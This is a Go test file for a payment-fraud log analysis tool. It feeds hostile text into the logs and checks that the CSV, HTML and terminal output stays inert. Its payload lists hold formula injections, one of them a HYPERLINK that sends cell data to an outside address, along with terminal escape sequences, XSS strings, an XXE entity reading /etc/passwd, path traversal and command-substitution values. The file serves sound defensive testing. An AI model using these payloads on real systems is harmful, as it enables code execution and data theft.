package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/paytriage/paytriage/report"
	"github.com/paytriage/paytriage/report/console"
)

// The tests of this file give the program what attackers and accidents put into
// files, and count:
//
//	go test ./cmd/paytriage -run Hostile -v
//
// prints how many inputs of each kind were tried, and how many were handled: an
// exit code that is right, an account of rows that adds up, nothing that a
// terminal, a spreadsheet or a browser would run, nothing read or written outside
// of what the command line names.

// A tally counts what was tried and what was handled.
type tally struct{ tried, handled int }

// of notes one trial; a fault says what was wrong, "" that nothing was.
func (n *tally) of(t *testing.T, name, fault string) {
	t.Helper()
	n.tried++
	if fault == "" {
		n.handled++
		return
	}
	t.Errorf("%s: %s", name, fault)
}

func (n *tally) print(t *testing.T, what string) {
	t.Helper()
	t.Logf("%-62s %5d tried, %5d handled", what, n.tried, n.handled)
	if n.tried == 0 {
		t.Error("nothing was tried")
	}
}

// said is what a command printed, and how it ended.
type said struct {
	code     int
	out, err string
}

// tried runs a command line. A panic ends the test.
func tried(args ...string) said {
	var out, errs bytes.Buffer
	code := execute(context.Background(), streams{in: strings.NewReader(""), out: &out, err: &errs}, args)
	return said{code, out.String(), errs.String()}
}

// fault says what is wrong with a run that should end with one of some codes.
func (s *said) fault(codes ...int) string {
	switch {
	case !slices.Contains(codes, s.code):
		return fmt.Sprintf("exit code %d, want %v: %.500s", s.code, codes, s.err)
	case (s.code == 1 || s.code == 2) && (!strings.HasPrefix(s.err, "paytriage: ") || !strings.Contains(s.err, "hint: ")):
		return fmt.Sprintf("no error and hint: %.500s", s.err)
	case len(s.err) > 20_000:
		return fmt.Sprintf("%d bytes of errors", len(s.err))
	}
	return unclean(s.err)
}

// unclean returns what of a text would do something to a terminal, or hide in it.
func unclean(text string) string {
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		if clean := console.Clean(line); clean != line {
			return fmt.Sprintf("a terminal would run %.200q", line)
		}
	}
	return ""
}

// formulas are what a spreadsheet runs at the start of a cell.
var formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
	"'=1", "''+1", `"=1`, " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", ";=1", ",=1", "|=1", `=cmd|' /C calc'!A0`,
	"=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")", "-", "+", "=", "@", "-1,5", "+81-90", "−1+1", "%0A=1"}

// terminals are what a terminal obeys, or shows in another order or not at all.
var terminals = []string{"\x1b[2J", "\x1b]52;c;cGF3\x07", "\x1b]8;;http://198.51.100.1\x1b\\", "\x1b]0;title\x07", "\x1bc", "\x1b[?1049h", "\x1bP+q\x1b\\",
	"\u009b2J", "\u009d52;c;cGF3\u009c", "\u0090q\u009c", "\x7f\x7f\x7f", "\b\b\b", "\rall is well ", "\a", "\v\f", "\x0e",
	"\u202e", "\u202d", "\u2066", "\u2067", "\u2068\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u115f", "\u3164", "\uffa0",
	"\U000e0041\U000e0042", "\u2028", "\u2029", "\ufff9x\ufffa", "\uffff", "\U0010ffff", "a" + strings.Repeat("\u0301", 500), strings.Repeat("\u0e49", 300)}

// markups are what a browser runs.
var markups = []string{"<script>window.pwned=1</script>", `"><img src=x onerror=window.pwned=1>`, "</script><script>window.pwned=1</script>", "<svg onload=window.pwned=1>",
	"<svg><script>window.pwned=1</script></svg>", "' onmouseover='window.pwned=1", "<!--", "-->", "]]>", "<style>@import url(http://198.51.100.1)</style>", "<base href=http://198.51.100.1>",
	"</title></style></template></main>", "javascript:window.pwned=1", "&lt;b&gt;", "&#x3c;b", "{{.Reveal}}", "${window.pwned=1}", "\\u003cscript\\u003e", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;", "<?xml?>",
	"<meta http-equiv=refresh content=0>", "<iframe src=javascript:window.pwned=1>", "`window.pwned=1`"}

// oddities are what other programs stumble over.
var oddities = []string{"../../../../etc/passwd", "/etc/passwd", `..\..\win.ini`, `C:\con`, "%2e%2e%2f", "file:///etc/passwd", "a;b", "a,b", `a"b`, `a""b`, "a|b", "a\nb", "a\r\nb",
	"__proto__", "constructor", "toString", "hasOwnProperty", "null ", "NaN", "Infinity", "1e400", "-0", "0x10", "00012", "TRUE", "'; DROP TABLE t;--", "$(id)", "`id`", "%s%n%d", "\\", "\\n", "\\x00", "#", "//", "$where",
	strings.Repeat("long", 25_000), strings.Repeat("表", 3000), "ソ\\", "か\u3099", "ﬁ", "İ", "ß", "😀", "🇯🇵", "\U0001f468\u200d\U0001f469\u200d\U0001f467"}

// exact are texts that stand alone in a cell.
var exact = []string{"__proto__", "constructor", "=", "-", "+", "@", "'", `"`, ";", ",", ".", "..", "/", " x ", "0", "-1", "+1", "=1+1", "1e9", "TRUE", "２"}

// runs reports whether a spreadsheet would run a cell of a file: also one that
// strips what cannot be seen before it looks.
func runs(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool {
		return r == 0 || r == '\n' || r == ' ' || r == '\u00a0' || r == '\u3000' || r == '\ufeff' || r == '\u200b' || unicode.Is(unicode.Zs, r)
	})
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !plainNumber.MatchString(cell) ||
		strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠")
}

var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+([.][0-9]+)?$`)

// An infection puts texts into every id of an incident, the same into the same.
type infection struct {
	texts []string
	seen  map[string]string
}

// of returns what a value of a column becomes.
func (n *infection) of(kind, value string) string {
	if value == "" {
		return ""
	}
	key := kind + "\x00" + value
	to, ok := n.seen[key]
	if !ok {
		i := len(n.seen)
		if to = n.texts[i%len(n.texts)] + value; i < len(exact) {
			to = exact[i]
		}
		n.seen[key] = to
	}
	return to
}

// kindOf says which columns hold the same ids; "" is a column of another kind.
var kindOf = map[string]string{
	"account_id": "account", "counterparty_account_id": "account", "txn_id": "txn", "original_txn_id": "txn",
	"device_id": "device", "session_id": "session", "user_agent": "agent", "reason": "reason", "merchant_id": "merchant", "store_id": "store",
	"funding_ref": "ref", "psp_reference": "psp", "terminal_id": "terminal", "operator_id": "operator", "category": "category", "detail": "detail", "method": "method",
}

// infect rewrites a log, and adds columns that it lacks and rows of which one
// field that is no text holds each text. It returns the columns and those rows.
func (n *infection) infect(t *testing.T, path string, add []string) (columns, bad int) {
	t.Helper()
	rows := csvRecords(t, path)
	head := append(rows[0], add...)
	width := len(rows[0])
	for i, row := range rows[1:] {
		for range add {
			row = append(row, fmt.Sprint("v", i%200))
		}
		for j, cell := range row {
			if kind := kindOf[head[j]]; kind != "" && i < len(rows)-1 {
				row[j] = n.of(kind, cell)
			}
		}
		rows[i+1] = row
	}
	rows[0] = head
	model := rows[1]
	for j, name := range head[:width] {
		if kindOf[name] != "" {
			columns++
			continue
		}
		for _, text := range n.texts {
			row := slices.Clone(model)
			row[j] = text + "x"
			rows = append(rows, row)
			bad++
		}
	}
	var b bytes.Buffer
	if err := csv.NewWriter(&b).WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return columns + len(add), bad
}

// TestHostileTexts puts every text into every column of both logs and looks at
// all that is made of it.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	n := &infection{texts: slices.Concat(formulas, terminals, markups, oddities), seen: map[string]string{}}
	dir := simulated(t, "list-type", 1500)
	auth, payments := filepath.Join(dir, "auth.csv"), filepath.Join(dir, "payments.csv")
	a, badAuth := n.infect(t, auth, []string{"method", "detail"})
	p, badPayments := n.infect(t, payments, []string{"psp_reference", "terminal_id", "operator_id", "category"})

	work := t.TempDir()
	at := func(name string) string { return filepath.Join(work, name) }
	var tables, prints, pages, fields tally
	fields.tried = len(n.texts)*(a+p) + badAuth + badPayments
	fields.handled = fields.tried
	wrong := func(format string, args ...any) {
		t.Helper()
		t.Errorf(format, args...)
		fields.handled = 0
	}

	dirty := tried("analyze", "--auth", auth, "--payments", payments, "--out", at("case"), "--format", "csv,parquet")
	prints.of(t, "analyze", dirty.fault(3)+unclean(dirty.out))
	if err := wholeCase(at("case")); err != nil {
		t.Fatal(err)
	}
	for _, in := range readManifest(t, at("case")).Inputs {
		if in.Read != in.Accepted+in.Rejected+in.Duplicates || in.Rejected == 0 {
			wrong("%s: %+v", in.Name, in.RowCounts)
		}
	}
	if err := os.WriteFile(at("key"), randomKey(), 0o600); err != nil {
		t.Fatal(err)
	}

	victims := csvRecords(t, at("case/victims.csv"))
	if len(victims) < 40 {
		t.Fatalf("%d victims: nothing is shown of most texts", len(victims))
	}
	account := strings.TrimPrefix(victims[1][0], "'")
	for _, args := range [][]string{
		{"verify", at("case")},
		{"verify", at("case"), "--json"},
		{"explain", at("case"), account, "--raw", "--auth", auth, "--payments", payments},
		{"explain", at("case"), account, "--json", "--auth", auth, "--payments", payments},
		{"refunds", at("case"), "--out", at("ledger"), "--format", "csv,xlsx", "--tier", "confirmed,probable"},
		{"refunds", at("case"), "--json"},
		{"whatif", at("case"), "--auth", auth, "--payments", payments},
		{"diff", at("case"), at("case"), "--out", at("bridge.csv")},
		{"indicators", at("case"), "--out", at("indicators.csv")},
		{"indicators", at("case"), "--format", "table"},
		{"indicators", at("case"), "--format", "blocklist", "--out", at("block.txt")},
		{"indicators", at("case"), "--format", "jsonl"},
		{"indicators", at("case"), "--format", "stix", "--out", at("bundle.json")},
		{"indicators", at("case"), "--list", "freeze", "--out", at("freeze.csv")},
		{"indicators", at("case"), "--list", "freeze", "--format", "table"},
		{"indicators", at("case"), "--list", "cameras", "--out", at("cameras.csv")},
		{"indicators", at("case"), "--list", "cameras", "--format", "table"},
		{"indicators", at("case"), "--list", "evidence", "--out", at("evidence.csv")},
		{"indicators", at("case"), "--format", "timesketch", "--out", at("timesketch.csv")},
		{"evaluate", at("case"), "--truth", dir},
		{"redact", at("case"), "--out", at("redacted"), "--key", at("key")},
		{"verify", at("redacted")},
		{"inspect", auth, payments},
		{"inspect", auth, payments, "--json"},
		{"convert", "--payments", payments, "--out", at("converted.csv"), "--rejects", at("rejects.csv")},
		{"report", at("case"), "--out", at("report.html")},
		{"report", at("case"), "--reveal", "--lang", "ja", "--mark", "2019-07-15T21:00Z=<script>window.pwned=1</script>", "--out", at("open.html")},
	} {
		s := tried(args...)
		name := strings.ReplaceAll(strings.Join(args, " "), work, "")
		prints.of(t, name, s.fault(0, 3)+unclean(s.out))
		if slices.Contains(args, "--json") && !json.Valid([]byte(s.out)) {
			t.Errorf("%s: prints no JSON", name)
		}
	}
	for _, s := range report.Schemas() {
		shown := tried("show", at("case"), s.Name)
		prints.of(t, "show "+s.Name, shown.fault(0)+unclean(shown.out))
	}

	files, err := filepath.Glob(filepath.Join(work, "*", "*.csv"))
	if err != nil {
		t.Fatal(err)
	}
	more, _ := filepath.Glob(filepath.Join(work, "*.csv"))
	for _, path := range append(files, more...) {
		if filepath.Base(path) == "converted.csv" {
			continue // for programs: ids as they are, as its help says
		}
		tables.of(t, path, runsIn(csvRecords(t, path)))
	}
	for _, name := range []string{"case/report.html", "report.html", "open.html"} {
		page := readText(t, at(name))
		fault := unclean(regexp.MustCompile(`[\t\n]`).ReplaceAllString(page, " "))
		for _, live := range []string{"<script>window", "<img", "<svg onload", "<base", "<style>@import", "<iframe", "<meta http-equiv=refresh", "<!ENTITY"} {
			if strings.Contains(page, live) {
				fault = "a browser would run " + live
			}
		}
		pages.of(t, name, fault)
	}
	fields.print(t, "texts in fields of logs")
	prints.print(t, "commands that print them")
	tables.print(t, "CSV files with them")
	pages.print(t, "pages with them")
}

// runsIn returns a cell of a file that a spreadsheet would run.
func runsIn(rows [][]string) string {
	for i, row := range rows {
		for j, cell := range row {
			if runs(cell) {
				return fmt.Sprintf("a spreadsheet would run row %d, column %s: %.60q", i, rows[0][min(j, len(rows[0])-1)], cell)
			}
		}
	}
	return ""
}

// randomKey returns 32 bytes that look random, the same each time.
func randomKey() []byte {
	rng := rand.New(rand.NewPCG(1, 2))
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(rng.Uint32())
	}
	return key
}

func readManifest(t *testing.T, dir string) *report.Manifest {
	t.Helper()
	m, err := report.ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	return m
}
